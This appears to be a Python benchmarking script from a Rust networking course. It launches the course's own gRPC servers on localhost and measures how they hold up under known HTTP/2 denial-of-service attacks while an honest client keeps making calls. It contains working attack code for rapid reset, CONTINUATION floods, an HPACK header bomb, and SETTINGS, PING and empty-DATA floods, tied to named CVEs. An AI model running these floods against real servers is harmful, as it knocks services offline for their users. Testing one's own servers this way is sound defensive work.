"""Attacks on the course's own servers, on 127.0.0.1. `python3 scripts/figures attack` runs all of them; they
build in `target/`, as cargo does. Each attack has a server of its own, and beside it an honest caller, who makes
a call every 20 ms and every tenth one on a new connection.
"""

import json
import multiprocessing
import os
import socket
import statistics
import struct
import subprocess
import time

from clock import clock
from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, ERRORS, HEADERS, PING, RST_STREAM, SETTINGS,
                   WINDOW_UPDATE, Connection, field, frame, integer, request)
from outside import outside
from rpc import REPOSITORY, load
from smuggling import smuggling

HEALTH = "/grpc.health.v1.Health/Check"
# An attack ends after so many seconds, also if the server has had enough of it only later.
LONGEST = 10


# ---- attacks on HTTP/2: each returns what was sent, and how the server ended it

def until(connection, blocks, batch=64):
    """Sends the blocks, until all are sent, the server has ended the connection, or the time is up."""
    end, sent, waiting = time.monotonic() + LONGEST, 0, []
    connection.socket.settimeout(1)
    for block in blocks:
        waiting.append(block)
        if len(waiting) < batch:
            continue
        try:
            connection.send(b"".join(waiting))
        except TimeoutError:
            # It takes nothing more: its buffers and ours are full.
            return sent, "takes no more"
        except OSError:
            return sent, connection.end(2)
        sent, waiting = sent + len(waiting), []
        if connection.closed.is_set() or time.monotonic() > end:
            return sent, connection.end(0)
    try:
        connection.send(b"".join(waiting))
    except OSError:
        pass
    return sent + len(waiting), connection.end(1)


def rapid_reset(address):
    """CVE-2023-44487: calls that are cancelled at once."""
    connection = Connection(address)
    head = request(address, HEALTH)
    cancel = struct.pack(">I", 8)
    return until(connection, (frame(HEADERS, END_HEADERS, number, head) + frame(RST_STREAM, 0, number, cancel)
                              for number in range(1, 200_000, 2)))


def server_resets(address):
    """CVE-2025-8671: calls that the client makes the server cancel, by a window of 0 bytes more."""
    connection = Connection(address)
    head = request(address, HEALTH)
    return until(connection, (frame(HEADERS, END_HEADERS, number, head)
                              + frame(WINDOW_UPDATE, 0, number, struct.pack(">I", 0))
                              for number in range(1, 200_000, 2)))


def continuation(address):
    """VU#421644, RUSTSEC-2024-0332: the headers of one call, without an end; each frame has a header of 16 kB."""
    connection = Connection(address)
    part = field("x-more", "a" * 16_000)

    def blocks():
        yield frame(HEADERS, 0, 1, request(address, HEALTH))
        for _ in range(20_000):
            yield frame(CONTINUATION, 0, 1, part)
    return until(connection, blocks(), 4)


def small_continuation(address):
    """The same, with frames of no bytes: nothing to count for a limit of bytes."""
    connection = Connection(address)

    def blocks():
        yield frame(HEADERS, 0, 1, request(address, HEALTH))
        for _ in range(500_000):
            yield frame(CONTINUATION, 0, 1)
    return until(connection, blocks(), 512)


def header_bomb(address):
    """A header of 4,000 bytes into the table of HPACK, then 16,000 times its number, of one byte, in each call: 64 MB
    from 16 kB."""
    connection = Connection(address)
    first = request(address, HEALTH) + field("x-bomb", "a" * 3_900, keep=True)
    bomb = request(address, HEALTH) + integer(62, 7, 0x80) * 16_000

    def blocks():
        yield frame(HEADERS, END_HEADERS | END_STREAM, 1, first)
        for number in range(3, 400, 2):
            yield frame(HEADERS, END_HEADERS | END_STREAM, number, bomb)
    return until(connection, blocks(), 1)


def settings(address):
    """CVE-2019-9515: settings that have to be acknowledged, by someone who never reads."""
    return until(Connection(address, read=False), (frame(SETTINGS, 0, 0) for _ in range(2_000_000)), 4096)


def ping(address):
    """CVE-2019-9512: the same with PING."""
    return until(Connection(address, read=False), (frame(PING, 0, 0, b"12345678") for _ in range(2_000_000)), 4096)


def empty_data(address):
    """CVE-2019-9518: the message of a call, in frames of no bytes."""
    connection = Connection(address)

    def blocks():
        yield frame(HEADERS, END_HEADERS, 1, request(address, HEALTH))
        for _ in range(2_000_000):
            yield frame(DATA, 0, 1)
    return until(connection, blocks(), 4096)


def refused(connection):
    calls = connection.resets.get(ERRORS.index("REFUSED_STREAM"), 0)
    return f"{calls} calls refused, " if calls else ""


def many_calls(address):
    """10,000 calls that never send their message, on one connection."""
    connection = Connection(address)
    head = request(address, HEALTH)
    sent, end = until(connection, (frame(HEADERS, END_HEADERS, number, head) for number in range(1, 20_000, 2)))
    time.sleep(1)
    return sent, refused(connection) + end


def zero_window(address):
    """10,000 calls, and no byte of room for the answers."""
    connection = Connection(address, settings=struct.pack(">HI", 4, 0))
    head = request(address, HEALTH)
    message = b"\0" + struct.pack(">I", 0)
    sent, end = until(connection, (frame(HEADERS, END_HEADERS, number, head)
                                   + frame(DATA, END_STREAM, number, message) for number in range(1, 20_000, 2)))
    return sent, refused(connection) + end


def silent(address):
    """1,500 connections that send nothing."""
    host, port = address.rsplit(":", 1)
    sockets, refused, end = [], 0, time.monotonic() + LONGEST
    while len(sockets) < 1_500 and refused < 3:
        try:
            sockets.append(socket.create_connection((host, int(port)), timeout=1))
        except OSError:
            refused += 1
    time.sleep(max(0.0, end - time.monotonic()))
    closed = 0
    for one in sockets:
        one.setblocking(False)
        try:
            closed += one.recv(100) == b""
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        one.close()
    return len(sockets), f"{closed} closed within {LONGEST} s"


ON_HTTP2 = {
    "rapid reset": rapid_reset,
    "resets by the server": server_resets,
    "CONTINUATION, 16 kB each": continuation,
    "CONTINUATION, empty": small_continuation,
    "header bomb": header_bomb,
    "SETTINGS, not read": settings,
    "PING, not read": ping,
    "empty DATA": empty_data,
    "calls without a message": many_calls,
    "answers without a window": zero_window,
    "silent connections": silent,
}


# ---- a server under attack

def honest(address, path, over, results):
    """A call every 20 ms; every tenth on a new connection."""
    times, failed, number, connection = [], 0, 1, None
    calls = 0
    while not over.is_set():
        began = time.perf_counter()
        try:
            if connection is None or calls % 10 == 0:
                if connection:
                    connection.close()
                connection, number = Connection(address), 1
            took = connection.call(number, path, timeout=2)
            number += 2
            if took is None:
                raise OSError("no answer")
            times.append(time.perf_counter() - began)
        except OSError:
            failed += 1
            connection = None
        calls += 1
        time.sleep(0.02)
    results.put((times, failed))


class Process:
    """A server in a process of its own; `{port}` in its command becomes a free port."""

    def __init__(self, command, extra=()):
        with socket.create_server(("127.0.0.1", 0)) as free:
            self.address = f"127.0.0.1:{free.getsockname()[1]}"
        command = [str(word).replace("{addr}", self.address) for word in command]
        self.others = [subprocess.Popen(other, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
                       for other in extra]
        self.process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.wait()

    def wait(self):
        host, port = self.address.rsplit(":", 1)
        for _ in range(200):
            try:
                return socket.create_connection((host, int(port)), timeout=1).close()
            except OSError:
                time.sleep(0.05)
        raise SystemExit(f"{self.process.args[0]} does not listen on {self.address}")

    def memory(self, what):
        """`VmRSS`, now, or `VmHWM`, the most since `forget`; in MB."""
        with open(f"/proc/{self.process.pid}/status", encoding="ascii") as lines:
            return next(int(line.split()[1]) for line in lines if line.startswith(what)) / 1024

    def forget(self):
        with open(f"/proc/{self.process.pid}/clear_refs", "w", encoding="ascii") as file:
            file.write("5")

    def seconds(self):
        """Processor time so far."""
        with open(f"/proc/{self.process.pid}/stat", encoding="ascii") as file:
            words = file.read().rsplit(")", 1)[1].split()
        return (int(words[11]) + int(words[12])) / os.sysconf("SC_CLK_TCK")

    def __enter__(self):
        return self

    def __exit__(self, *_):
        for process in [self.process, *self.others]:
            process.kill()
            process.wait()


def under(attack, server, path):
    """Runs one attack; what the server needed, and what the honest caller saw."""
    over, results = multiprocessing.Event(), multiprocessing.Queue()
    caller = multiprocessing.Process(target=honest, args=(server.address, path, over, results))
    caller.start()
    time.sleep(0.5)
    before, spent = server.memory("VmRSS"), server.seconds()
    server.forget()
    began = time.monotonic()
    sent, end = attack(server.address)
    took = time.monotonic() - began
    time.sleep(max(0.0, 1 - took))
    more, spent = server.memory("VmHWM") - before, server.seconds() - spent
    over.set()
    times, failed = results.get(timeout=30)
    caller.join()
    late = statistics.quantiles(times, n=100)[98] * 1e3 if len(times) > 1 else float("nan")
    return {"sent": sent, "seconds": took, "end": end, "memory": more, "cpu": spent, "calls": len(times) + failed,
            "failed": failed, "late": late, "alive": server.process.poll() is None}


def programs():
    """Release builds: the path of each program by its name."""
    command = ["cargo", "build", "--release", "-p", "l06-grpc", "-p", "l07-streaming", "-p", "l14-gateway",
               "-p", "l16-captcha", "-p", "l08-consul",
               "-p", "l15-redis", "--bins", "--bench", "bare-server", "--message-format", "json"]
    out = subprocess.run(command, cwd=REPOSITORY, check=True, stdout=subprocess.PIPE)
    built = [json.loads(line) for line in out.stdout.splitlines()]
    return {message["target"]["name"]: message["executable"]
            for message in built if message.get("executable")}


def http2(program):
    """One row for each attack and each server."""
    servers = {
        "tonic alone": [program["bare-server"], "{addr}"],
        "06": [program["l06-grpc"], "server", "--addr", "{addr}"],
        "07": [program["l07-streaming"], "server", "--addr", "{addr}"],
        "14": [program["l14-gateway"], "user", "--server_address", "{addr}"],
        "16": [program["l16-captcha"], "service", "--addr", "{addr}"],
    }
    print("Attacks on HTTP/2: one attacker on 127.0.0.1, release builds, a server for each row; "
          f"load average {load()}")
    print("Memory is what the server took more than before, at its peak; the last three columns are the honest "
          "caller's")
    print(f"{'attack':<26}{'server':<13}{'sent':>9}{'s':>6}{'MB':>7}{'cpu s':>7}{'calls':>7}{'failed':>8}"
          f"{'p99 ms':>8}  ended by")
    for name, attack in ON_HTTP2.items():
        for server, command in servers.items():
            # A closed connection loses what it has not read: the next try may hear the reason.
            for _ in range(5):
                with Process(command) as process:
                    seen = under(attack, process, HEALTH)
                if seen["end"] != "closed":
                    break
            end = seen["end"] if seen["alive"] else "THE SERVER HAS ENDED"
            print(f"{name:<26}{server:<13}{seen['sent']:>9}{seen['seconds']:>6.1f}{seen['memory']:>7.1f}"
                  f"{seen['cpu']:>7.2f}{seen['calls']:>7}{seen['failed']:>8}{seen['late']:>8.1f}  {end}", flush=True)
    print()


def attack(work):
    """All of them."""
    program = programs()
    http2(program)
    with Process([program["l14-gateway"], "user", "--server_address", "{addr}"]), \
            Process([program["l14-gateway"], "gateway", "--addr", "{addr}", "--expose", "user"]) as gateway:
        smuggling(gateway.address, work)
    clock(program, work)
    outside(work)
